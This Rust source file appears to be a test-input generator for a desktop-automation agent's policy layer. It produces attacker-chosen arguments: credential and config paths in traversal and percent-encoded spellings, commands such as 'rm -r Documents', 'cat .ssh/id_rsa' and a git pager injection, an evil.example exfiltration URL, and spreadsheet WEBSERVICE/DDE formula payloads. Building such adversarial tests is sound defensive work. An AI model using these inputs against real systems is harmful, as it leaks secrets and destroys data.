//! Arguments as an attacker chooses them: places in every spelling, formulas, programs, addresses.

use deskpilot_core::{CommandSpec, ParamKind, Presence};
use serde_json::{Map, Value, json};

const PLACES: &[&str] = &[
    ".ssh/id_rsa",
    ".ssh/authorized_keys",
    ".bashrc",
    ".config/autostart/a.desktop",
    ".config/git/config",
    ".password-store",
    "own/deskpilot/policy.toml",
    "own/deskpilot",
    "bin/backup",
    "bin/new",
    "Documents/letter.txt",
    "Documents/keys/id_rsa",
    "Documents/keys",
    "Documents/work",
    "Documents/new.txt",
    "Documents",
    "Notes/monday.txt",
    "Notes/key.txt",
    "Notes/new.txt",
    "Notes/elsewhere/deskpilot/policy.toml",
    "Notes/tuesday.txt",
    "Notes",
    "new.zip",
    "",
];
const PROGRAMS: &[&[&str]] = &[
    &["date"],
    &["rm", "-r", "Documents"],
    &["cat", ".ssh/id_rsa"],
    &["git", "log", "--oneline", "main"],
    &["git", "-c", "core.pager=touch x", "log"],
    &["sh", "-c", "date"],
    &["env", "date"],
];
const ADDRESSES: &[&str] = &[
    "https://evil.example/?q=SECRET",
    "https://www.example.org/a",
    "view-source:https://evil.example/",
    "macro:///a.b.c",
    "file:///etc/passwd",
];

pub(super) struct Palette {
    state: u64,
    home: String,
}

impl Palette {
    pub(super) fn new(seed: u64, home: &str) -> Palette {
        Palette { state: seed, home: home.to_owned() }
    }

    /// A number below this one: SplitMix64 (Steele, Lea and Flood, 2014).
    pub(super) fn below(&mut self, end: usize) -> usize {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut mixed = self.state;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        usize::try_from((mixed ^ (mixed >> 31)) % end as u64).unwrap()
    }

    fn one<'t>(&mut self, of: &[&'t str]) -> &'t str {
        of[self.below(of.len())]
    }

    /// Arguments that fit the command.
    pub(super) fn arguments(&mut self, spec: &CommandSpec) -> Map<String, Value> {
        let mut args = Map::new();
        for param in spec.params.iter() {
            if param.presence == Presence::Required || self.below(3) > 0 {
                args.insert(param.name.clone().into_owned(), self.value(&param.kind));
            }
        }
        args
    }

    fn value(&mut self, kind: &ParamKind) -> Value {
        match kind {
            ParamKind::Text | ParamKind::Element | ParamKind::Formula => json!(self.text()),
            ParamKind::Note => json!("n"),
            ParamKind::Number => json!(1 + self.below(3)),
            ParamKind::Flag => json!(self.below(2) == 0),
            ParamKind::Texts => json!([self.text(), self.text()]),
            ParamKind::Rows => json!([[self.text(), 1], [self.text()]]),
            ParamKind::Fields => json!([[self.text(), self.text()]]),
            ParamKind::OneOf(words) => json!(words[self.below(words.len())]),
            ParamKind::Path(_) => json!(self.path()),
            ParamKind::Paths(_) => json!([self.path(), self.path()]),
            ParamKind::Url => json!(self.one(ADDRESSES)),
            ParamKind::Argv => json!(PROGRAMS[self.below(PROGRAMS.len())]),
            ParamKind::Range => json!("A1"),
        }
    }

    /// A place of the home, in one of the spellings that programs read.
    fn path(&mut self) -> String {
        let place = self.one(PLACES);
        let home = self.home.clone();
        match self.below(9) {
            0 => format!("~/{place}"),
            1 => format!("{home}/Notes/../{place}"),
            2 => format!("file://{home}/{place}"),
            3 => format!("file://{home}/{}", place.replace('.', "%2E").replace('s', "%73")),
            4 => format!("{home}//./{place}/"),
            5 => format!("{home}/Notes/elsewhere/../../{place}"),
            6 => place.to_owned(),
            _ => format!("{home}/{place}"),
        }
    }

    fn text(&mut self) -> String {
        let place = self.one(PLACES);
        let place = format!("{}/{place}", self.home);
        match self.below(8) {
            0 => format!("='file://{place}'#$Sheet1.A1"),
            1 => format!("=WEBSERVICE(\"{}\"&A1)", self.one(ADDRESSES)),
            2 => "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")".into(),
            3 => "Delete my account".into(),
            4 => place,
            5 => "*".into(),
            _ => "plain words".into(),
        }
    }
}
